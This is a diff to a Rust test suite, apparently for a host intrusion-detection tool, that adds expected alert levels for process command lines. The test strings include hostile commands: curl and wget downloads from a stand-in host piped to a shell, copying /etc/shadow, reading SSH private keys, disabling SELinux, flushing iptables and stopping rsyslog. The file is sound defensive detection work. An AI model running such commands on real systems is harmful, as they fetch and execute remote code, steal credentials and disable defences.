@@ -84,6 +84,8 @@ fn fetched_and_run() {
         ("/bin/bash -c (curl -s http://x.example/a) | sh", "HIGH suspicious_process"),
         ("/bin/sh -c curl -s https://x.example/i.sh | sh", "MEDIUM suspicious_process"),
         ("/bin/sh -c curl -fsSL https://get.docker.com | sh", "LOW suspicious_process"),
+        ("/bin/sh -c wget http://x.example/a -O /tmp/a; chmod +x /tmp/a; /tmp/a", "HIGH suspicious_process"),
+        ("/bin/sh -c cd /tmp && curl -O https://x.example/i.sh && bash /tmp/i.sh", "MEDIUM suspicious_process"),
         ("/bin/sh -c echo aWQK | base64 -d | sh", "HIGH suspicious_process"),
         ("/bin/sh -c base64 --decode /tmp/x | tee /tmp/y | bash", "HIGH suspicious_process"),
     ]);
@@ -124,6 +126,7 @@ fn miners_secrets_and_defences() {
         ("/bin/cp /etc/shadow /tmp/s", "MEDIUM suspicious_process"),
         ("/usr/bin/cat /root/.ssh/id_rsa", "MEDIUM suspicious_process"),
         ("/usr/bin/cat /etc/passwd", ""),
+        ("/bin/cp -p /etc/shadow /var/backups/shadow.bak", ""),
         ("/usr/bin/ls -l /etc/shadow", ""),
         ("/bin/chown root:shadow /etc/shadow", ""),
         ("/usr/sbin/setenforce 0", "MEDIUM suspicious_process"),
@@ -227,6 +230,8 @@ fn shells_of_network_services() {
         ("/usr/sbin/php-fpm8.2", "sh -c 'cat /etc/passwd'", "HIGH"),
         ("/usr/lib/jvm/java-17/bin/java", "/bin/bash -c wget http://203.0.113.9/x", "HIGH"),
         ("/usr/lib/postgresql/16/bin/postgres", "sh -c id", "HIGH"),
+        ("/usr/sbin/php-fpm8.2", "sh -c ps aux", "MEDIUM"),
+        ("/usr/sbin/php-fpm8.2", "sh -c cat /proc/cpuinfo", "MEDIUM"),
         ("/usr/sbin/php-fpm8.2", "sh -c /opt/site/resize.sh a.png", "LOW"),
         ("/usr/sbin/php-fpm8.2", "sh -c /usr/sbin/sendmail -t -i", ""),
         ("/usr/sbin/apache2", "/bin/sh -c /usr/bin/rotatelogs /var/log/a 86400", ""),
@@ -317,6 +322,21 @@ fn windows_processes() {
         let short = text.split_once(':').map_or("", |(head, _message)| head);
         assert_eq!(short, expected, "{command}: {text}");
     }
+}
+
+/// What manages packet filters flushes them; a thread of the kernel has no file in /tmp.
+#[test]
+fn who_started_it_matters() {
+    assert_eq!(said(process("/usr/sbin/iptables", "iptables -F", "/usr/bin/dockerd", "root")), "");
+    assert!(
+        said(process("/usr/sbin/iptables", "iptables -F", "/bin/bash", "root"))
+            .starts_with("MEDIUM suspicious_process")
+    );
+    assert!(said(process("/tmp/x", "[kworker/0:1]", "/bin/bash", "root")).starts_with("HIGH suspicious_process"));
+    let mut hub = Hub::new();
+    hub.feed(0.0, "web", line("dpkg", 0, "status half-configured rsyslog:amd64 8.2112.0"));
+    hub.feed(1.0, "web", sudo("alice", "/usr/bin/systemctl stop rsyslog"));
+    check(&hub.text(), "1 LOW log_tampering x1 open: alice stops rsyslog, which watches on web");
 }
 
 /// Ten thousand times the same, and texts that want to take long.
